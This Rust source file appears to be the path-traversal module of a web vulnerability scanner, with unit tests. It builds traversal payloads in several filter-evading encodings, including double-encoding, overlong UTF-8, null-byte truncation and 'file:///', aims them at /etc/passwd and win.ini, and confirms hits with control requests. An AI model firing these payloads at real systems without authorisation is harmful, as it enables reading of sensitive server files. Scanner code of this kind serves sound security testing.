//! Whether the name of a file may climb out of its directory (CWE-22, CWE-98, OWASP A01:2021).
//!
//! For each value of each request:
//! 1. It is replaced by ways to a file that every system has: up and over, from the root, in the encodings that filters and
//!    decoders miss, with the ending the value had, as an address of a file. Values that look like names of files, or are called
//!    so, get all ways; other texts get the two commonest. Requests are written as they are: nothing folds `../`.
//! 2. The first line of `/etc/passwd`, or the sections of `win.ini`, must come back; the original answer has neither.
//! 3. Negative twin: the same way to a name that no system has. It must not give them.
//! 4. It is repeated. Then it is proven.
//! 5. Where no such file can be read: a detour through the file's own directory, by the name its address suggests, must give the
//!    file, and a detour through a directory that is not there must not. That is firm.

use gabion_model::outbound::BoxFuture;

use super::{Attack, Phase};
use crate::aim::{Aim, Sent, aims};
use crate::call::Put;
use crate::field::Field;
use crate::operation::Place;
use crate::verdict::{Proof, Verdict};
use crate::wire::{Answer, WireError};

pub(super) struct PathTraversal;

const ID: &str = "path-traversal";

impl Attack for PathTraversal {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Read
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(async move {
            let mut tested = 0_usize;
            for aim in aims(field).iter().filter(|aim| aim.is_value() && !is_counted(aim)) {
                tested = tested.saturating_add(1);
                attack(aim).await?;
            }
            if tested == 0 {
                field.not_tested(ID, "no operation takes a text");
            }
            Ok(())
        })
    }
}

/// A number that names no file.
fn is_counted(aim: &Aim<'_>) -> bool {
    aim.original.parse::<f64>().is_ok() && !is_called_file(aim.point.word())
}

fn is_called_file(word: &str) -> bool {
    let word = word.to_ascii_lowercase();
    NAMES.iter().any(|name| word.contains(name))
}

/// What parameters are called that name files.
const NAMES: &[&str] = &[
    "file",
    "path",
    "page",
    "doc",
    "template",
    "tpl",
    "include",
    "dir",
    "folder",
    "image",
    "img",
    "photo",
    "download",
    "attachment",
    "report",
    "log",
    "lang",
    "locale",
    "theme",
    "style",
    "view",
    "module",
    "src",
    "source",
    "key",
    "name",
    "load",
    "read",
];

/// Whether a value looks like the name of a file: with an ending of letters, or with a separator.
fn is_file_like(value: &str) -> bool {
    let ending = value.rsplit_once('.').map(|(_, ending)| ending).unwrap_or_default();
    let named = (1..=5).contains(&ending.len()) && ending.bytes().all(|byte| byte.is_ascii_alphanumeric());
    // An address of somebody is none.
    (named && !value.contains('@')) || value.contains('/')
}

/// A way to a file: the value, how it goes up, and whether it goes out as it is written.
struct Way {
    up: &'static str,
    /// What the separators of the file's own path become.
    slash: &'static str,
    after: &'static str,
    raw: bool,
    /// Whether the value's directory stays in front.
    within: bool,
    /// Whether the value's ending stays behind.
    ending: bool,
}

const PLAIN: Way = Way { up: "../", slash: "/", after: "", raw: false, within: false, ending: false };

/// The commonest first.
const WAYS: &[Way] = &[
    PLAIN,
    Way { up: "/", ..PLAIN },
    Way { up: "....//", ..PLAIN },
    Way { within: true, ..PLAIN },
    Way { up: "..%2f", slash: "%2f", raw: true, ..PLAIN },
    Way { up: "..%252f", slash: "%252f", raw: true, ..PLAIN },
    Way { up: "..%c0%af", slash: "%c0%af", raw: true, ..PLAIN },
    Way { up: "%2e%2e/", raw: true, ..PLAIN },
    Way { up: "..\\", slash: "\\", ..PLAIN },
    Way { up: "..;/", raw: true, ..PLAIN },
    Way { up: "../", after: "%00", raw: true, ending: true, ..PLAIN },
    Way { up: "file:///", ..PLAIN },
];

/// How often it goes up: beyond the root there is nothing to go to.
const STEPS: usize = 10;

/// Files that every system has.
const FILES: &[&str] = &["etc/passwd", "windows/win.ini"];

async fn attack(aim: &Aim<'_>) -> Result<(), WireError> {
    let likely = is_file_like(&aim.original) || is_called_file(aim.point.word());
    let ways = if likely { WAYS } else { WAYS.get(..2).unwrap_or_default() };
    if content(&aim.known.answer).is_some() {
        aim.field.say(aim.outcome(ID, Verdict::Inconclusive, "the original answer is such a file already"));
        return Ok(());
    }
    for file in FILES.iter().take(if likely { 2 } else { 1 }) {
        // Windows is asked in its two commonest ways only.
        let windows = *file != "etc/passwd";
        for way in ways.iter().filter(|way| !windows || way.up == "..\\" || (way.up == "../" && !way.within))
        {
            let Some(attack) = send(aim, way, file).await? else { continue };
            let Some(line) = content(&attack.answer) else { continue };
            let Some(twin) = send(aim, way, &format!("{file}-{}", aim.field.canary())).await? else {
                continue;
            };
            let Some(again) = send(aim, way, file).await? else { continue };
            if content(&twin.answer).is_some() || content(&again.answer).is_none() {
                continue;
            }
            let says = format!("{} reads `/{file}`", aim.point);
            let proof = Proof::new(aim.evidence(&attack), format!("the answer has `{line}`"))
                .twin(aim.evidence(&twin))
                .shown(aim.evidence(&again));
            aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
            return Ok(());
        }
    }
    if aim.works && likely && detour(aim).await? {
        return Ok(());
    }
    aim.field.say(aim.outcome(ID, Verdict::Passed, "no way led to a file outside"));
    Ok(())
}

async fn send(aim: &Aim<'_>, way: &Way, file: &str) -> Result<Option<Sent>, WireError> {
    let steps = if way.up.starts_with("..") || way.up.starts_with("%2e") { STEPS } else { 1 };
    let mut text = String::new();
    if way.within {
        let Some((directory, _)) = aim.original.rsplit_once('/') else { return Ok(None) };
        text.push_str(directory);
        text.push('/');
    }
    text.push_str(&way.up.repeat(steps));
    text.push_str(&file.replace('/', way.slash));
    text.push_str(way.after);
    if way.ending {
        let Some((_, ending)) = aim.original.rsplit_once('.') else { return Ok(None) };
        text.push('.');
        text.push_str(ending);
    }
    let encoded = matches!(aim.point.place, Place::Path | Place::Query | Place::Form);
    match (way.raw, encoded) {
        (true, true) => aim.send(&Put::Raw(&text)).await,
        // What is no address is decoded by the application itself, if at all.
        (true, false) if way.up == "..%2f" => aim.text(&text).await,
        (true, false) => Ok(None),
        (false, _) if aim.point.place == Place::Path && way.up == "../" => aim.send(&Put::Raw(&text)).await,
        (false, _) => aim.text(&text).await,
    }
}

/// What of an answer only such a file has.
fn content(answer: &Answer) -> Option<&'static str> {
    let text = answer.text();
    let of_root = text.lines().any(|line| {
        let start = line.find("root:").and_then(|at| line.get(at..)).unwrap_or_default();
        let mut parts = start.split(':');
        parts.next() == Some("root") && parts.nth(1) == Some("0") && parts.next() == Some("0")
    });
    let lower = text.to_ascii_lowercase();
    let of_windows = lower.contains("[fonts]") && lower.contains("[extensions]");
    if of_root { Some("root:…:0:0:") } else { of_windows.then_some("[fonts]") }
}

/// A detour through the file's own directory.
async fn detour(aim: &Aim<'_>) -> Result<bool, WireError> {
    let Some(base) = aim.profile().await? else { return Ok(false) };
    let words = aim.known.call.template.split('/').chain([aim.point.word()]);
    let mut guesses: Vec<String> = Vec::new();
    for word in words.filter(|word| !word.is_empty() && !word.contains('{')) {
        for guess in [word.to_owned(), format!("{word}s"), word.trim_end_matches('s').to_owned()] {
            if !guesses.contains(&guess) {
                guesses.push(guess);
            }
        }
    }
    for guess in guesses.iter().take(6) {
        let there = format!("../{guess}/{}", aim.original);
        let elsewhere = || format!("../{guess}{}/{}", aim.field.canary(), aim.original);
        let Some(attack) = aim.text(&there).await? else { continue };
        if !aim.fits(&base, &attack) {
            continue;
        }
        let Some(twin) = aim.text(&elsewhere()).await? else { continue };
        let (Some(again), Some(other)) = (aim.text(&there).await?, aim.text(&elsewhere()).await?) else {
            continue;
        };
        if aim.fits(&base, &twin) || aim.fits(&base, &other) || !aim.fits(&base, &again) {
            continue;
        }
        let says = format!("{} may leave its directory and come back", aim.point);
        let evidence = format!("`{there}` gives what `{}` gives, and `{}` does not", aim.original, twin.text);
        let proof = Proof::new(aim.evidence(&attack), evidence).twin(aim.evidence(&twin));
        aim.field.say(aim.outcome(ID, Verdict::Firm, says).proof(proof));
        return Ok(true);
    }
    Ok(false)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn answer(body: &str) -> Answer {
        Answer::made(200, &[], body)
    }

    #[test]
    fn a_file_of_the_system_is_told_from_talk_about_it() {
        for text in ["root:x:0:0:root:/root:/bin/sh", "<pre>root:!:0:0::/:/bin/sh\ndaemon:x:1:1:"] {
            assert!(content(&answer(text)).is_some(), "{text}");
        }
        for text in ["cannot read /etc/passwd", "root: 0:0:", "the root:x:1:0: line", "[fonts] of the shop"] {
            assert_eq!(content(&answer(text)), None, "{text}");
        }
    }

    #[test]
    fn names_of_files_are_told_from_words() {
        assert!(is_file_like("guide.txt") && is_file_like("a/b") && is_called_file("fileName"));
        assert!(!is_file_like("lamp") && !is_file_like("3.14159265") && !is_called_file("q"));
    }
}
